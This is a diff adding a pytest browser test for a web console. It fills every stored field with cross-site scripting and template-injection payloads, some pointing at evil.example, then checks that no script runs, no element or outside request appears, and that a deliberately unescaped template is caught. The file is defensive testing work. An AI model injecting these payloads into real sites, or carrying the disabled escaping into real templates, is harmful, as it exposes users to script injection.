@@ -1,0 +1,100 @@
+"""T16: what was remembered runs nowhere: in every field, on every page of the console, in a browser."""
+
+import random
+from typing import Any
+
+import pytest
+from jinja2 import Environment
+
+from integration.console_stand import PAGES, chromium, furnished, running, signed_in
+from reliability.stand import SEED, say, scale
+from satchel.faces.console import pages
+from satchel.trust import clean_text
+
+pytestmark = [pytest.mark.torture, pytest.mark.xdist_group("console")]
+
+_HEADS = (
+    "",
+    "</pre>",
+    "</script>",
+    "'>",
+    '">',
+    "</textarea>",
+    "</title>",
+    "-->",
+    "]]>",
+    "{{",
+    "\u2028",
+)
+_BODIES = (
+    "<script>window.hacked={n}</script>", "<img src=x onerror=window.hacked={n}>",
+    "<svg onload=window.hacked={n}>", "<iframe srcdoc='<script>parent.hacked={n}</script>'></iframe>",
+    "<a href='javascript:window.hacked={n}'>x</a>", "<body onload=window.hacked={n}>",
+    "<details open ontoggle=window.hacked={n}>", "<math><mtext><script>hacked={n}</script>",
+    "<input autofocus onfocus=window.hacked={n}>", "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=javascript:hacked={n}'>", "{{ 7*{n} }}", "{% raw %}",
+    "${{hacked={n}}}", "<style>@import '//evil.example'</style>", "<form action=//evil.example><button>",
+    "\x1b]0;hacked\x07", "\u202egnp.exe", "\U000e0041\U000e0042", "<template><script>hacked={n}</script>",
+)  # fmt: skip
+
+
+def payloads(count: int) -> list[str]:
+    dice = random.Random(SEED)
+    every = [head + body.replace("{n}", str(n)) for n, (head, body) in
+             enumerate((h, b) for h in _HEADS for b in _BODIES)]  # fmt: skip
+    while len(every) < count:
+        every.append(dice.choice(every) + dice.choice(every))
+    return dice.sample(every, count)
+
+
+def hits(said: str) -> list[str]:
+    """Put a text into every field, and look at every page with it; say what became active."""
+    found = []
+    with chromium() as browser, furnished(said) as (project, idents):
+        with running(project) as (address, token), signed_in(browser, address, token) as page:
+            asked: list[str] = []
+
+            def shut(one: Any) -> None:
+                found.append(one.message)
+                one.dismiss()
+
+            page.on("request", lambda one: asked.append(one.url))
+            page.on("dialog", shut)
+            more = (f"memory/{idents['memory']}", f"session/{idents['session']}",
+                    f"tasks?task={idents['task']}", "tables?table=suppliers")  # fmt: skip
+            for name in (*PAGES, *more):
+                page.goto(f"{address}/console/{project.key}/{name}")
+                if page.evaluate("typeof window.hacked !== 'undefined'"):
+                    found.append(f"{name}: a script ran")
+                # No element of ours is one of these, or listens by an attribute.
+                bad = ("base, iframe, object, embed, math, form[action^='//'], a[href^='javascript'], "
+                       "[onerror], [onload], [onfocus], [ontoggle], img")  # fmt: skip
+                if not name.endswith("picture") and page.locator(bad).count():
+                    found.append(f"{name}: an element came of it")
+                text = page.inner_text("body")
+                if any(mark in text for mark in ("\x1b", "\u202e", "\U000e0041")):
+                    found.append(f"{name}: what a reader does not see")
+            found += [url for url in asked if not url.startswith((address, "data:"))]
+    return found
+
+
+def test_nothing_that_was_remembered_runs_on_any_page() -> None:
+    count = scale(60, 300)
+    each = 15
+    texts = payloads(count)
+    for start in range(0, count, each):
+        assert hits(" ".join(texts[start : start + each])) == []
+    say("T16", count, f"{count} payloads in every field of {len(PAGES) + 4} pages: "
+        "0 ran, 0 elements, 0 requests elsewhere")  # fmt: skip
+
+
+def test_a_seeded_page_that_does_not_escape_is_caught(monkeypatch: pytest.MonkeyPatch) -> None:
+    careless = Environment(loader=pages._TEMPLATES.loader, autoescape=False)  # noqa: S701 -- the bug
+    careless.filters.update(pages._TEMPLATES.filters)
+    careless.globals.update(pages._TEMPLATES.globals)
+    monkeypatch.setattr(pages, "_TEMPLATES", careless)
+    assert hits("<img src=x onerror=window.hacked=1>")
+
+
+def test_a_payload_is_cleaned_before_it_is_shown() -> None:
+    assert clean_text("\x1b]0;hacked\x07a\u202eb\U000e0041") == "ab"
